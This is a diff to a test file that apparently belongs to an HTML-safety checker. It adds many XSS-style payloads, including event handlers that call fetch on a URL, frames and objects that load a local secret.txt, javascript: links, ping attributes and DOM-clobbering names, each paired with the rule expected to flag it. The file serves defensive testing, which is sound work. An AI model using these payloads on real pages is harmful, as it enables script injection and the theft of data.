@@ -47,6 +47,26 @@ attacks('event handlers', {
     '3 image-exists',
   ),
   'onload of a paragraph': html(({ url }) => `<p onload="fetch('${url}')">Text</p>`),
+  'onload of the body': html(({ url }) => `<body onload="fetch('${url}')">`),
+  'onload of the body, in the middle of a sentence': html(
+    ({ url }) => `Text <BODY ONLOAD="fetch('${url}')"> goes on.`,
+  ),
+  'onclick behind a slash': html(({ url }) => `<div><p/ONCLICK=fetch('${url}')>Text</p></div>`),
+  'onclick of a cell that no table holds': html(({ url }) => `<td onclick="fetch('${url}')">Text</td>`),
+  'onclick of an element that does not exist': html(({ url }) => `<xss onclick="fetch('${url}')">T</xss>`),
+  'onclick of an element with the name of a property': html(
+    ({ url }) => `<constructor onclick="fetch('${url}')">T</constructor>`,
+  ),
+  'onstart of a marquee': html(({ url }) => `<marquee onstart="fetch('${url}')">Text</marquee>`),
+  'onerror of an isindex': html(({ url }) => `<isindex type=image src=1 onerror="fetch('${url}')">`),
+  'onclose of a dialog': html(({ url }) => `<dialog open onclose="fetch('${url}')">Text</dialog>`),
+  'onload of a drawing and onclick of its shape': html(
+    ({ url }) => `<svg onload="fetch('${url}')">\n<circle r="5" onclick="fetch('${url}')"/></svg>`,
+    '3 html-is-safe',
+    '4 html-is-safe',
+  ),
+  'onbegin of an animation': html(({ url }) => `<svg><animate onbegin="fetch('${url}')"/></svg>`),
+  'onclick of a formula': html(({ url }) => `<math onclick="fetch('${url}')"><mi>x</mi></math>`),
   'ontoggle of details': html(
     ({ url }) => `<details open ontoggle="fetch('${url}')"><summary>S</summary>T</details>`,
   ),
@@ -57,6 +77,19 @@ attacks('frames and objects', {
   'a frame with a document of its own': html(
     ({ url }) => `<iframe srcdoc="&lt;script&gt;fetch('${url}')&lt;/script&gt;"></iframe>`,
   ),
+  'a set of frames': html(
+    ({ url }) => `<frameset onload="fetch('${url}')">\n<frame src="${url}"></frameset>`,
+    '3 html-is-safe',
+    '4 html-is-safe',
+  ),
+  'a set of frames inside a block': html(
+    ({ folder }) => `<div><frameset><frame src="file://${folder}/secret.txt"></frameset></div>`,
+  ),
+  'a document in an attribute of what is no frame': html(
+    ({ url }) => `<p srcdoc="&lt;img src=${url}&gt;">Text</p>`,
+  ),
+  'a portal': html(({ url }) => `<portal src="${url}"></portal>`),
+  'an applet': html(({ url }) => `<applet code="x" codebase="${url}"></applet>`),
   'an object': html(({ folder }) => `<object data="file://${folder}/secret.txt" type="text/plain"></object>`),
   'an embedded file': html(({ folder }) => `<embed src="file://${folder}/secret.txt">`),
   'audio, video and what belongs to them': html(
@@ -83,9 +116,45 @@ attacks('what changes the document', {
     ({ url }) =>
       `<picture><source srcset="${url}/x.png 1x"><img src="none.png" srcset="${url}/y.png 2x" alt=""></picture>`,
   ),
-  'an instruction to use a stylesheet': html(
+  'an instruction to use a stylesheet, a document type, an entity, a section of text': html(
     ({ url }) =>
-      `<?xml-stylesheet href="${url}/x.css"?>\n\n<!DOCTYPE html SYSTEM "${url}/x.dtd">\n\n<p onclick="1">T</p>`,
-    '7 html-is-safe',
+      `<?xml-stylesheet href="${url}/x.css"?>\n\n<!DOCTYPE html SYSTEM "${url}/x.dtd">\n\n<!ENTITY x SYSTEM "${url}/x">\n\n<![CDATA[<script>fetch('${url}')</script>]]>`,
+    '3 warning html-is-known',
+    '5 warning html-is-known',
+    '7 warning html-is-known',
+    '9 warning html-is-known',
+  ),
+  'a picture behind a table, its cell and the body': html(
+    ({ url }) =>
+      `<table background="${url}/x.png">\n<tr><td background="${url}/y.png">c</td></tr></table>\n<body background="${url}/z.png">`,
+    '3 html-is-safe',
+    '4 html-is-safe',
+    '5 html-is-safe',
+  ),
+  'a link that tells on the reader': html(({ url }) => `<a href="https://a.example" ping="${url}">Text</a>`),
+  'old ways to load a picture': html(
+    ({ url }) => `<img src="none.png" alt="" longdesc="${url}" dynsrc="${url}" lowsrc="${url}">`,
+    '3 html-is-safe',
+    '3 image-exists',
+  ),
+  'the image of a drawing': html(
+    ({ url }) => `<svg><image xlink:href="${url}/x.png"/><use href="${url}/x.svg#a"/></svg>`,
+    '3 warning html-is-known',
+  ),
+  'a map with areas': html(
+    ({ url }) =>
+      `<map name="m"><area href="javascript:fetch('${url}')"></map><img usemap="#m" src="none.png">`,
+    '3 link-is-safe',
+    '3 image-exists',
+  ),
+  'ids and names of things that scripts look for': html(
+    () =>
+      `<p id="__proto__" class="constructor __proto__">a</p><a name="cookie" id="body">b</a><img name="getElementById" src="none.png" alt=""><form id="attributes"></form>`,
+    '3 html-is-safe',
+    '3 image-exists',
+    '3 warning html-is-known',
+  ),
+  'a root in the shadow': html(
+    ({ url }) => `<div><template shadowrootmode="open"><img src="${url}/x.png"></template></div>`,
   ),
 });
